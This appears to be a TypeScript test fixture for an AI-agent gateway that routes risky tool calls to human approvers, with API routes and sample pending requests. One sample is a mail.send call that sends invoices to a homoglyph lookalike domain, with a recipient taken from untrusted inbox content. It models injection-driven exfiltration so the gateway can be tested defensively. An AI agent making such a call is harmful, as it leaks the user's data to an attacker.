import { randomBytes } from "node:crypto";
import { Hono } from "hono";
import { noteSigner, signerKey } from "../../src/audit/note.ts";
import { approvalsOf, noteAnswer, sealOf } from "../../src/compose/people/approvals.ts";
import { outOfTheBox } from "../../src/config/index.ts";
import { type Counted, type Decision, permit, type Request, UNTRUSTED } from "../../src/core/index.ts";
import type { JsonObject } from "../../src/core/json.ts";
import { createInbox, openReviewers, openShelf, spoiled } from "../../src/oversight/index.ts";
import { memoryDocuments } from "../../src/vault/documents.ts";

/** A question to be asked: what the agent wants, and why a person has to say so. */
export interface Wish {
  readonly agent?: string;
  readonly user?: string;
  readonly key?: string;
  readonly action?: string;
  readonly tool: string;
  readonly args?: JsonObject;
  readonly target?: { readonly type: string; readonly id: string };
  readonly content?: string;
  readonly surface?: string;
  readonly session?: string;
  readonly reasons: readonly {
    readonly id: string;
    readonly text: string;
    readonly evidence?: readonly { readonly argument: string; readonly origin?: string }[];
  }[];
  readonly needs?: { readonly approvers: readonly string[]; readonly count: number };
  /** What a dry run counted. */
  readonly counted?: Counted;
  /** Milliseconds. */
  readonly expires?: number;
}

export interface Questions {
  /** The routes of the API that are about questions. */
  readonly app: Hono;
  /** What an agent's asking comes to: asking for the same again is the same wish. */
  ask(wish: Wish): Promise<string>;
  /** What another approver does elsewhere. */
  edit(id: string, by: string, args: JsonObject): Promise<void>;
  /** What time does to a question that nobody answers. */
  escalate(id: string, to: readonly string[]): Promise<void>;
  /** What the agent says of its question. */
  explain(id: string, text: string): Promise<void>;
  /** Plants a question made of this one. */
  plant(id: string): Promise<string>;
  readonly waiting: number;
}

const REFUSED: { readonly [why: string]: 403 | 404 | 409 } = { "not-there": 404, "not-yours": 403, "own-request": 403, twice: 403 };
const MINUTE = 60_000;

/** The gateway's own inbox over memory, behind the routes that the API has. */
export async function questions(operatorName: string, people: readonly string[] = []): Promise<Questions> {
  const clock = {
    now: Date.now,
    monotonic: () => performance.now(),
    timer(ms: number, fire: () => void) {
      const timer = setTimeout(fire, ms).unref();
      return () => clearTimeout(timer);
    },
  };
  const config = { ...outOfTheBox(), people: Object.fromEntries(people.map((name) => [name, { roles: ["finance"] }])) };
  const inbox = createInbox({
    shelf: await openShelf(memoryDocuments()),
    clock,
    random: (bytes) => randomBytes(bytes),
    seal: sealOf(noteSigner(signerKey("holdfast.example/fixture", randomBytes(32)))),
    times: () => ({ hold: 0, expires: 60 * MINUTE, keep: 24 * 60 * MINUTE }),
    policy: () => "fixture",
    definition: () => undefined,
    // As the gateway sees what a command leads to on its own machine.
    files: async ({ action }) => (action.tool === "shell.run" ? FILES : []),
    roleHolders: (role) => (role === "finance" ? people : []),
    judge: async () => permit({ id: "roles/fixture", text: "granted" }),
    record: (event, facts) => noteAnswer(event, facts, undefined, { reviewers, phases: { answered() {} }, now: Date.now }),
  });
  const reviewers = await openReviewers({ load: async () => [], save: async () => {} }, () => ({ share: 0.95, ms: 5_000, last: 5 }));
  const approvals = approvalsOf(inbox, () => config, reviewers);
  const problem = (title: string, status: number) => ({ type: "about:blank", title, status, code: "denied" });
  const app = new Hono();
  app.get("/api/v1/approvals", async (c) => {
    return c.json(await approvals.list(500, c.req.query("state") === "pending" ? "pending" : undefined));
  });
  app.get("/api/v1/attention", (c) => c.json(approvals.attention(operatorName)));
  app.get("/api/v1/approvals/:id", async (c) => {
    const found = await approvals.get(c.req.param("id"), operatorName);
    return found === undefined ? c.json(problem("there is no approval of this id", 404), 404) : c.json(found);
  });
  app.post("/api/v1/approvals/:id", async (c) => {
    const answered = await approvals.answer(c.req.param("id"), { name: operatorName }, await c.req.json());
    if (!("refused" in answered)) return c.json(answered.approval);
    const status = REFUSED[answered.refused] ?? 409;
    return c.json(problem(answered.text, status), status);
  });
  app.post("/api/v1/approvals", async (c) => {
    const answered = await approvals.answerAll({ name: operatorName }, await c.req.json());
    return "refused" in answered ? c.json(problem(answered.text, 409), 409) : c.json(answered);
  });
  app.get("/api/v1/approvals/:id/rule", async (c) => {
    const draft = await approvals.rule(c.req.param("id"));
    if (draft === undefined) return c.json(problem("there is no approval of this id", 404), 404);
    return "refused" in draft ? c.json(problem(draft.refused, 409), 409) : c.json(draft);
  });
  let asked = 0;
  return {
    app,
    async ask(wish) {
      const request = requestOf(wish, `asked-${++asked}`);
      const resolution = await inbox.layer.resolve(request, decisionOf(wish), new AbortController().signal);
      if (resolution.kind === "permit" || resolution.kind === "edit") {
        const decision = permit({ id: "fixture", text: "done" });
        inbox.ended(request.id, { status: "done", decision, verdict: { decision, passages: [] } });
      }
      return resolution.kind;
    },
    edit: async (id, by, args) => void (await approvals.answer(id, { name: by }, { action: "edit", args })),
    escalate: inbox.escalate,
    async explain(id, text) {
      const approval = await inbox.get(id);
      const { agent = "", key = "" } = approval?.bound.principal ?? {};
      await inbox.explain(id, { agent, capability: key }, text);
    },
    async plant(id) {
      const like = await inbox.get(id);
      const request = like === undefined ? undefined : spoiled(like, `asked-${++asked}`, Date.now());
      if (like === undefined || request === undefined) throw new Error("nothing can be made of it");
      return inbox.plant(request, like);
    },
    get waiting() {
      return inbox.waiting;
    },
  };
}

const FILES = ["/srv/app/current", "/usr/local/bin/deploy"].map((path) => ({ path, is: `${path.replace("current", "release-7")} sha256:${"4f".repeat(32)}` }));

function requestOf(
  { agent = "support", user, key = "key-1", action = "tool.call", tool, args = {}, target, content, surface = "mcp-gateway", session }: Wish,
  id: string,
): Request {
  return {
    id,
    principal: { agent, capability: key, ...(user === undefined ? {} : { user }), ...(session === undefined ? {} : { session }) },
    action: { type: action as Request["action"]["type"], tool, args },
    ...(target === undefined ? {} : { resource: target }),
    content: [{ source: { kind: "tool", id: "mail.read" }, label: UNTRUSTED, text: content ?? "" }],
    context: { time: Date.now(), surface },
  };
}

function decisionOf({ reasons, needs, expires, counted }: Wish): Decision {
  return {
    effect: "ask",
    reasons: [
      ...reasons.map((reason) => ({ ...reason, effect: "ask" as const })),
      ...(counted === undefined ? [] : [{ id: "records/counted", effect: "permit" as const, text: "counted", counted }]),
    ],
    obligations:
      needs === undefined && expires === undefined
        ? []
        : [{ kind: "approval", approvers: [], count: 1, ...needs, ...(expires === undefined ? {} : { expires }) }],
  };
}

/** One of each kind that a person meets. */
export const wishes = (): readonly Wish[] => [
  {
    user: "anna",
    tool: "crm.update_customer",
    args: { id: 4711, address: { street: "Example Road 5", city: "Köln" }, tags: ["moved", "vip"] },
    reasons: [{ id: "rules/customer-data", text: "rule `customer-data` asks a person" }],
  },
  {
    agent: "finance",
    tool: "bank.transfer",
    args: { iban: "DE00 0000 0000 0000 0000 00", amount: 1250.5, note: "Invoice 2026-118" },
    reasons: [{ id: "rules/big-payment", text: "rule `big-payment` asks a person" }],
    needs: { approvers: ["finance"], count: 2 },
    expires: 9 * MINUTE,
  },
  {
    user: "anna",
    tool: "mail.send",
    args: {
      to: "archive@p\u0430rcel-status.example",
      subject: "Invoices\u200b for you",
      body: `Dear team,\n\nplease find the invoices below.\n\n${"Invoice line with an amount and a date. ".repeat(30)}`,
      options: { receipt: true, cc: [], attempts: null },
    },
    reasons: [
      {
        id: "flow/untrusted-target",
        text: "the target comes from untrusted content, and the request does not name it",
        evidence: [{ argument: "to", origin: "tool:mail.read_inbox#3" }],
      },
      { id: "flow/untrusted-context", text: "the action changes something or leaves the house, and untrusted content is in play" },
    ],
  },
];
